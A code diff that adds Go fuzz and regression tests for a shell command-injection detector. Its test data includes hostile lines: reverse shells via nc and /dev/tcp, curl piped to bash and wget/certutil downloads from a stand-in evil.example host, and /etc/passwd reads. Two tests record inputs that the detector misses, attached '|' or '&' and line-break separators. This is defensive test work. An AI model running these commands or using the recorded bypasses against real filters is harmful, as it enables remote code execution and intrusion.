@@ -193,3 +193,99 @@ func TestCMDEXE(t *testing.T) {
 		})
 	}
 }
+
+// cmdBreakouts are separators an injection puts before its command: each puts the next
+// word in a command position (doc comment of cmdexe.go). A single '|' or '&' glued to
+// the word before it ("name|id", "Q&A") is weaker on purpose and left out.
+var cmdBreakouts = []string{";", "; ", " ; ", "&&", " && ", "||", " || ", " | ", " & ", "\n", "\r\n", "\n\n"}
+
+// cmdHostileLines are command lines hostile by themselves (doc comment: a recon command
+// alone, a hostile tool with shell arguments, an interpreter running inline code, a
+// command on a system location, a pipe into a shell, a /dev/tcp redirection): they
+// match after any breakout, even where the separators are the writer's own (prose, a
+// value that is a command line from its first word), where every command is judged as
+// if it opened the value.
+var cmdHostileLines = []string{
+	"cat /etc/passwd", "whoami", "uname -a", "ls -la /root", "wget http://evil.example/x.sh -O /tmp/x.sh",
+	"nc -e /bin/sh 10.0.0.1 4444", "curl http://evil.example/x | bash", "python -c 'import os'",
+	"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "certutil -urlcache -f http://evil.example/x x.exe",
+}
+
+// cmdTrailers end the injected command before the benign rest of a value. A line break
+// is not one of them: after a command judged as the start of a value (in prose, or after
+// a first word that is a command, as in "w; whoami\nx") the detector reads a line break
+// as a space, so "whoami" is no longer alone and the value passes, while
+// "w; whoami;x" matches.
+var cmdTrailers = []string{";", " ; ", "&&", " || ", " | "}
+
+// FuzzCmdExe checks the promises of cmdexe.go on arbitrary input:
+//
+//   - anywhere: a hostile command line after a breakout separator is found, whatever
+//     benign text (benignAlphabet) comes before it and, after a trailing separator,
+//     after it; the fragment is non-empty and part of the value;
+//   - start only: a value with no separator is judged by its first word alone, so a
+//     value of benign text that does not open with a command word never matches;
+//   - any value: a fragment reported is non-empty and part of the value.
+func FuzzCmdExe(f *testing.F) {
+	f.Add("127.0.0.1", "", uint8(0), uint8(0))
+	f.Add("Hello, I have a question about my order", "thanks", uint8(3), uint8(11))
+	f.Add("w", "x", uint8(7), uint8(17))
+	f.Add("$(id)", "a", uint8(9), uint8(2))
+	for n := range 12 {
+		f.Add("order 1234", "thanks", uint8(n), uint8(n))
+	}
+	f.Fuzz(func(t *testing.T, prefix, suffix string, sep, attack uint8) {
+		if frag, ok := matchCMDEXE(nil, prefix); ok {
+			checkFragment(t, CMDEXE, prefix, frag)
+		}
+
+		v := benignText(prefix, benignAlphabet, 80) + pick(cmdBreakouts, sep) + pick(cmdHostileLines, attack)
+		if suffix != "" {
+			v += pick(cmdTrailers, sep/16) + benignText(suffix, benignAlphabet, 80)
+		}
+		frag, ok := matchCMDEXE(nil, v)
+		if !ok {
+			t.Fatalf("CMDEXE missed %q", v)
+		}
+		checkFragment(t, CMDEXE, v, frag)
+
+		// "zq" is no command: with no separator, nothing is in a command position.
+		plain := "zq " + benignText(prefix+suffix, benignAlphabet, 160)
+		if frag, ok := matchCMDEXE(nil, plain); ok {
+			t.Fatalf("CMDEXE matched %q (fragment %q): no command position in it", plain, frag)
+		}
+	})
+}
+
+// TestCmdExeAttachedBreakout: a single '|' or '&' glued to the word before it is graded
+// "attached" ("name|id", "Q&A" stay benign), and there a strong or network command with
+// a host or URL argument is not found, though cmdexe.go says a strong command (wget,
+// netcat...) is enough after a separator: "127.0.0.1|wget" alone, "127.0.0.1|wget -q
+// http://..." and "127.0.0.1;wget http://..." all match, while the classic ping-form
+// payloads below pass. Found by FuzzCmdExe; not fixed here (test-only change).
+func TestCmdExeAttachedBreakout(t *testing.T) {
+	for _, v := range []string{
+		"127.0.0.1|wget http://evil.example/x.sh",
+		"127.0.0.1&wget http://evil.example/x.sh",
+		"127.0.0.1|wget http://evil.example/x.sh -O /tmp/x.sh",
+		"127.0.0.1|nc 10.0.0.1 4444",
+		"127.0.0.1|curl http://evil.example/x.sh",
+	} {
+		if _, ok := matchCMDEXE(nil, v); !ok {
+			t.Errorf("matchCMDEXE(%q) = false, want true", v)
+		}
+	}
+}
+
+// TestCmdExeLineBreakEndsCommand: a line break ends a command as ';' does, but after a
+// command judged as the start of a value (the value's first word, or any command of a
+// value that is a command line from its first word) the detector reads it as a space:
+// "whoami;id" and "ifconfig;x" match, "whoami\nid" and "ifconfig\nx" do not. Found by
+// FuzzCmdExe; not fixed here (test-only change).
+func TestCmdExeLineBreakEndsCommand(t *testing.T) {
+	for _, v := range []string{"whoami\nid", "ifconfig\nx", "ls\nwhoami\nx", "w | whoami\r\nw"} {
+		if _, ok := matchCMDEXE(nil, v); !ok {
+			t.Errorf("matchCMDEXE(%q) = false, want true", v)
+		}
+	}
+}
